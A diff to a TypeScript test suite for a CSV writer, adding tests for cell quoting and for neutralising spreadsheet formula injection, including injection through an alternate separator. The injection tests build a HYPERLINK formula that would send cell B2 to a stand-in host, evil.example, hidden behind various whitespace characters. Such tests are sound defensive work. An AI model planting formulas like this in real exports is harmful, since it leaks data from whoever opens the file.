@@ -46,15 +46,46 @@ describe('the CSV writer', () => {
     }
   });
 
-  it('quotes a cell with the separator, a quote, a line feed or a bare carriage return, and nothing else', () => {
-    expect(csvCell('a,b')).toBe('"a,b"');
-    expect(csvCell('a;b')).toBe('a;b');
-    expect(csvCell('a;b', ';')).toBe('"a;b"');
-    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
-    expect(csvCell('two\nlines')).toBe('"two\nlines"');
-    expect(csvCell('bare\rreturn')).toBe('"bare\rreturn"');
-    expect(csvCell('Gemeente Utrecht')).toBe('Gemeente Utrecht');
+  it('quotes a cell with a comma, a semicolon or a tab whatever the separator, a quote or a line break, and nothing else', () => {
+    for (const separator of [',', ';'] as const) {
+      const line = (cell: string) => toCsv([[cell]], { separator });
+      expect(line('a,b')).toBe('"a,b"\n');
+      expect(line('a;b')).toBe('"a;b"\n');
+      expect(line('a\tb')).toBe('"a\tb"\n');
+      expect(line('say "hi"')).toBe('"say ""hi"""\n');
+      expect(line('two\nlines')).toBe('"two\nlines"\n');
+      expect(line('bare\rreturn')).toBe('"bare\rreturn"\n');
+      expect(line('line\u2028separator')).toBe('"line\u2028separator"\n');
+      expect(line('Gemeente Utrecht')).toBe('Gemeente Utrecht\n');
+    }
     expect(csvCell('')).toBe('');
+  });
+
+  it('neutralises a formula behind the blanks a spreadsheet trims', () => {
+    for (const blank of [' ', '  ', '\n', '\r\n', '\u3000', '\u00A0', '\u200B', '\uFEFF', ' \n\u3000']) {
+      for (const start of ['=', '+', '-', '@', '\uFF1D']) {
+        const text = `${blank}${start}HYPERLINK("https://evil.example/?leak="&B2)`;
+        const [[cell]] = readCsv(toCsv([[text]])) as [[string]];
+        expect(cell, JSON.stringify(text)).toBe(`'${text}`);
+      }
+    }
+    expect(csvCell(' Gemeente Utrecht')).toBe(' Gemeente Utrecht');
+  });
+
+  it('leaves no live formula in any cell when a file is split on the other separator too', () => {
+    // The attack of a name like "Gemeente Utrecht,=1+1" in the citizens' (;) CSV, or "Haarlem;=1+1" in
+    // the auditor's (,) one: a spreadsheet that splits on the other character gets a last cell "=1+1".
+    const names = ['Gemeente Utrecht,=1+1', 'Haarlem;=1+1', 'Wmo\t@SUM(1)', 'a, -2+3', 'b; +1', 'c,\u3000=1'];
+    for (const written of [',', ';'] as const) {
+      const csv = toCsv([names, names], { separator: written });
+      for (const read of [',', ';', '\t']) {
+        const live = readCsv(csv, read)
+          .flat()
+          .filter((cell) => /^[=+\-@]/.test(cell.replace(/^\s+/u, '')));
+        expect(live, `written with ${written}, read with ${JSON.stringify(read)}`).toEqual([]);
+      }
+      expect(readCsv(csv, written)[0]).toEqual(names);
+    }
   });
 
   it('writes numbers as numbers, a negative one too, and texts that only contain = + - @ as they are', () => {
@@ -68,7 +99,7 @@ describe('the CSV writer', () => {
         ['b', 2],
       ]),
     ).toBe('a,1\nb,2\n');
-    expect(toCsv([['é', 'x;y']], { separator: ';', lineEnd: '\r\n', bom: true })).toBe('\uFEFFé;"x;y"\r\n');
+    expect(toCsv([['é', 'x;y', 'z']], { separator: ';', lineEnd: '\r\n', bom: true })).toBe('\uFEFFé;"x;y";z\r\n');
     expect(toCsv([])).toBe('');
   });
 
